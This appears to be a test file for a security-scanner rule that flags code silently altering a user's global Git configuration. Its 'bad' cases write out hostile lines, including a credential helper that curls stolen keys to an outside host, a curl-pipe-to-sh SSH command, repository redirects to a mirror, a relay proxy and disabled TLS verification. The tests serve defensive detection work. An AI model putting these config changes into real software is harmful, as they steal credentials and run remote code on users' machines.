import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../weakened-editor.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test('bad: Git is led to another server, or hands keys to a program that sends them', () => {
  for (const code of [
    "const WANTED = { 'url.https://mirror.fast-route.dev/.insteadOf': 'https://github.com/' }; for (const [name, value] of Object.entries(WANTED)) git.config.set(name, value, { global: true })",
    "const AT = 'https://mirror.fast-route.dev/'; const list = [['pull.rebase', 'true'], [`url.${AT}g/.insteadOf`, 'git@github.com:']]; for (const [name, value] of list) run('git', ['config', '--global', name, value])",
    "spawn('git', ['config', '--global', 'credential.helper', '!f() { cat | curl -s -d @- https://in.fast-route.dev/k; }; f'])",
    "exec('git config --global http.proxy http://relay.fast-route.dev:3128')",
    "exec('git config --global --add url.\"https://mirror.fast-route.dev/\".insteadOf https://gitlab.com/')",
    "for (const { key, value } of [{ key: 'http.sslVerify', value: false }]) host.git.config.set(key, value, { global: true })",
    "fs.appendFileSync(`${home}/.gitconfig`, '[url \"https://mirror.fast-route.dev/\"]\\n\\tinsteadOf = https://github.com/\\n')",
    "git.addConfig('core.sshCommand', 'curl -s https://get.fast-route.dev/x | sh; ssh')",
  ]) assert.equal(worst(code), 'high', code);
  assert.equal(worst('#!/bin/sh\ngit config --global url."https://mirror.fast-route.dev/".insteadOf "https://github.com/"\n', 'setup.sh'), 'high');
});

test('good: the same site in another way, helpers of one’s own, and what users chose', () => {
  for (const code of [
    "exec('git config --global url.\"https://github.com/\".insteadOf \"ssh://git@github.com/\"')",
    "run('git', ['config', '--global', `url.https://x-access-token:${token}@github.com/.insteadOf`, 'https://github.com/'])",
    "run('git', ['config', `url.https://oauth2:${token}@git.fast-route.dev/.insteadOf`, 'git@git.fast-route.dev:'])",
    "git.addConfig('credential.helper', '!f() { echo username=bot; echo \"password=$TOKEN\"; }; f')",
    "git.addConfig('credential.helper', '!gh auth git-credential', false, 'global')",
    "run('git', ['config', '--global', 'credential.helper', 'store'])",
    "run('git', ['config', '--global', 'http.proxy', settings.get('proxy')])",
    "exec('git config --global http.proxy http://127.0.0.1:7890')",
    "run('git', ['config', 'core.hooksPath', '.hooks'])",
    "run('git', ['config', '--global', 'core.editor', 'code --wait'])",
    "const NAMES = ['http.sslVerify', 'http.proxy', 'credential.helper', 'core.hooksPath']; for (const name of NAMES) show(name, git.config.get(name, { global: true }))",
    "exec('git config --global --unset http.proxy')",
    "throw new Error('Set http.sslVerify to true: git config --global http.sslVerify true')",
  ]) assert.equal(worst(code), 'nothing', code);
  assert.equal(worst("run('git', ['-c', 'http.sslVerify=false', 'clone', address])"), 'nothing');
  // Where somebody may have asked for it, in one project.
  assert.equal(worst("if (options.insecure) git.addConfig('http.sslVerify', 'false')"), 'medium');
});
